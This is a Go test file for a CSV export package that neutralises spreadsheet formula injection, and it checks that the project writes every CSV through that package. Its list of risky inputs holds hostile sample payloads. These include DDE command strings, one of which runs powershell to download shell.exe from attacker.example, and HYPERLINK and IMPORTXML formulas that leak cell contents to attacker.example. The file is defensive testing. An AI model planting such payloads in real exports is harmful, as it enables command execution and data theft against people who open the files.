package csvexport

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	risky := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "|calc", "%0A", "\t=1", "\r=1", "\tplain", "\rplain",
		// Passed over by a spreadsheet before it looks for a formula.
		" =1", "\u00a0=1", "\u200b=1", "\u200c=1", "\u200d=1", "\u2060=1", "\ufeff=1", "\u00ad=1", "\u200e=1", "\u202e=1",
		"\u3000=1", "\u2003=1", "\x00=1", "\n=1", " \u200b\u00a0+1",
		// Full-width and other compatibility forms of the formula characters.
		"\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\uff5ccalc", "\uff05x", "\ufe66cmd", "\ufe62cmd", "\ufe63cmd", "\u200b\uff1dcmd",
		// DDE payloads.
		`=cmd|' /C calc'!A0`, `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		`+thisIsMalicious|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `=HYPERLINK("http://attacker.example/?leak="&A1,"Click")`,
		`|cmd /c calc`, `=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")`, `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
		// Not plain numbers.
		"-", "-1e5", "-1.", "-.5", "-1-1", "-1 ", "- 1", "-1,000", "-1.2.3", "-%", "-0x10",
	}
	for _, s := range risky {
		if got := Cell(s); got != "'"+s {
			t.Errorf("Cell(%q) = %q, want it quoted", s, got)
		}
	}
	safe := []string{
		"", "Sam", "North Community Team", "0.27", "39.3%", "0.53 to 0.95", "–", "<5", "'=already quoted", "a=b", "x+1", "e-mail",
		"\u200b", "   ", "Zoë", "日本語", "\u2212" + "1", // a real minus sign is not a formula character
		// Plain negative numbers stay numbers.
		"-1", "-12", "-0.5", "-3.5%", "-100%",
	}
	for _, s := range safe {
		if got := Cell(s); got != s {
			t.Errorf("Cell(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestWriterQuotesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	row := []string{"=1+1", "ok", "\uff1dcmd|' /C calc'!A0", "-5"}
	if err := w.Write([]string{"a", "b", "c", "d"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if row[0] != "=1+1" {
		t.Errorf("Write changed the caller's slice: %q", row)
	}
	out := b.String()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "ok", "'\uff1dcmd|' /C calc'!A0", "-5"}
	if strings.Join(recs[1], "\x1f") != strings.Join(want, "\x1f") {
		t.Errorf("row read back as %q, want %q", recs[1], want)
	}
	if !strings.Contains(out, "\r\n") {
		t.Errorf("lines do not end CRLF")
	}
}

// Every CSV file Mutual writes goes through this package: encoding/csv's
// writer anywhere else would skip the formula neutraliser.
func TestOnlyThisPackageWritesCSV(t *testing.T) {
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "go.mod")); err != nil {
		t.Fatalf("the module root is not at %s: %v", root, err)
	}
	self, _ := filepath.Abs(".")
	checked := 0
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			if name := d.Name(); name == "node_modules" || name == ".git" || name == "testdata" || (strings.HasPrefix(name, ".") && path != root) {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || filepath.Dir(path) == self {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		checked++
		if bytes.Contains(b, []byte("csv.NewWriter")) {
			rel, _ := filepath.Rel(root, path)
			t.Errorf("%s uses csv.NewWriter: write CSV through csvexport.NewWriter so formulas are neutralised", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if checked < 50 {
		t.Fatalf("only %d Go files checked: is the walk in the right place?", checked)
	}
}
